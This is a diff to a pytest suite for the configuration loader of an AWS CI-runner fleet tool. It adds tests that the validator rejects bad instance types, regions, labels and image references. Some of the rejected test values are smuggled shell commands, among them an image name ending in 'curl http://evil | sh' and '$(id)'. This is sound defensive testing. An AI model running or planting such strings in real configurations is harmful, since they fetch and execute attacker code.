@@ -28,7 +28,7 @@ def test_defaults_are_the_seed_architecture() -> None:
 
 
 def test_missing_file_gives_defaults(tmp_path: Path) -> None:
-    cfg = load(tmp_path / "none.toml", environ={})
+    cfg = load(tmp_path / "none.toml", environ={}, required=False)
     assert cfg == FleetConfig()
 
 
@@ -51,7 +51,7 @@ def test_env_overrides_nested_and_typed(tmp_path: Path) -> None:
 
 def test_env_override_that_is_invalid_names_the_field(tmp_path: Path) -> None:
     with pytest.raises(ConfigError) as exc:
-        load(tmp_path / "x.toml", environ={"RUNNERFLEET_RUNNERS__COUNT": "many"})
+        load(tmp_path / "x.toml", environ={"RUNNERFLEET_RUNNERS__COUNT": "many"}, required=False)
     assert exc.value.problems[0][0] == "runners.count"
 
 
@@ -205,3 +205,101 @@ def test_tfvars_example_names_only_declared_variables() -> None:
     assert named, "the example names no variable"
     assert named <= declared, f"undeclared in the stack: {named - declared}"
     assert set(to_tfvars(FleetConfig())) <= named, "the example misses some inputs"
+
+
+# ---- input refused before anything starts (issue 14.6) -----------------------------------
+def test_instance_type_list_is_botocores() -> None:
+    """The shipped list is botocore's EC2 InstanceType enum (refresh: catalogue --refresh)."""
+    import botocore.loaders
+
+    from runnerfleet import catalogue
+
+    model = botocore.loaders.create_loader().load_service_model("ec2", "service-2")
+    enum = set(model["shapes"]["InstanceType"]["enum"])
+    shipped = catalogue.instance_types()
+    assert {"t3.medium", "m7g.large", "c7i.xlarge"} <= shipped
+    assert "t3.huge" not in shipped
+    assert len(shipped - enum) == 0, sorted(shipped - enum)[:10]
+
+
+@pytest.mark.parametrize(
+    ("data", "field", "hint"),
+    [
+        ({"runners": {"instance_type": "t3.huge"}}, "runners.instance_type", "did you mean"),
+        (
+            {"runners": {"pools": [{"instance_types": ["m5.larg"]}]}},
+            "runners.pools[0].instance_types",
+            "did you mean 'm5.large'",
+        ),
+        (
+            {"aws": {"region": "us-east-9"}, "network": {"availability_zones": ["us-east-9a"]}},
+            "aws.region",
+            "did you mean 'us-east-2'",
+        ),
+        ({"name": "abc\n"}, "name", "lowercase"),
+        ({"runners": {"labels": ["gpu\n"]}}, "runners.labels", "no spaces"),
+        ({"monitoring": {"log_retention_days": True}}, "monitoring.log_retention_days", "true"),
+        ({"runners": {"ephemeral": 1}}, "runners.ephemeral", "true or false"),
+        ({"runners": {"ephemeral": "yes"}}, "runners.ephemeral", "true or false"),
+        ({"runners": {"count": 1.0}}, "runners.count", "whole number"),
+        ({"runners": {"pools": [{"cpu_target": float("nan")}]}}, "runners.pools[0].cpu_target", ""),
+        (
+            {"runners": {"app_image": "nginx:1; curl http://evil | sh"}},
+            "runners.app_image",
+            "image",
+        ),
+        ({"runners": {"app_image": "$(id)"}}, "runners.app_image", "image"),
+        ({"runners": {"s3_bucket_names": ["a b"]}}, "runners.s3_bucket_names", "bucket"),
+        ({"tags": {"team": "x\ny"}}, "tags", "value"),
+        ({"github": {"repository": "r;m"}}, "github.repository", "repository"),
+        ({"backend": {"key": "state\n.tfstate"}}, "backend.key", "object key"),
+        (
+            {"control_plane": {"reconcile_schedule": "often"}},
+            "control_plane.reconcile_schedule",
+            "",
+        ),
+    ],
+)
+def test_surprising_values_are_refused(data: dict, field: str, hint: str) -> None:
+    with pytest.raises(ConfigError) as exc:
+        validate(data)
+    assert field in [f for f, _ in exc.value.problems], exc.value
+    assert hint.lower() in str(exc.value).lower()
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        "nginxdemos/hello:plain-text",
+        "nginx",
+        "ghcr.io/owner/app:v1.2.3",
+        "123456789012.dkr.ecr.us-east-1.amazonaws.com/team/app:latest",
+        "localhost:5000/x/y@sha256:" + "a" * 64,
+        "[::1]:5000/app:1",
+    ],
+)
+def test_image_references_in_the_oci_grammar_pass(image: str) -> None:
+    assert validate({"runners": {"app_image": image}}).runners.app_image == image
+
+
+def test_a_named_file_must_exist_the_default_may_be_missing(tmp_path: Path) -> None:
+    with pytest.raises(ConfigError, match="does not exist"):
+        load(tmp_path / "typo.toml", environ={})
+    with pytest.raises(ConfigError, match="does not exist"):
+        load(environ={"RUNNERFLEET_CONFIG": str(tmp_path / "typo.toml")})
+    assert load(tmp_path / "runnerfleet.toml", environ={}, required=False) == FleetConfig()
+
+
+def test_env_problems_name_the_variable(tmp_path: Path) -> None:
+    with pytest.raises(ConfigError) as exc:
+        load(tmp_path / "x.toml", environ={"RUNNERFLEET_RUNNERS__EPHEMERAL": "1"}, required=False)
+    assert "RUNNERFLEET_RUNNERS__EPHEMERAL" in str(exc.value)
+    with pytest.raises(ConfigError, match="remove one of the two"):
+        env_overrides({"RUNNERFLEET_AWS": "plain", "RUNNERFLEET_AWS__REGION": "eu-west-1"})
+    with pytest.raises(ConfigError, match="RUNNERFLEET_<SECTION>__<KEY>"):
+        env_overrides({"RUNNERFLEET_": "x"})
+
+
+def test_numeric_app_id_from_the_environment_is_a_string(tmp_path: Path) -> None:
+    cfg = load(tmp_path / "x.toml", environ={"RUNNERFLEET_GITHUB__APP_ID": "12345"}, required=False)
+    assert cfg.github.app_id == "12345"
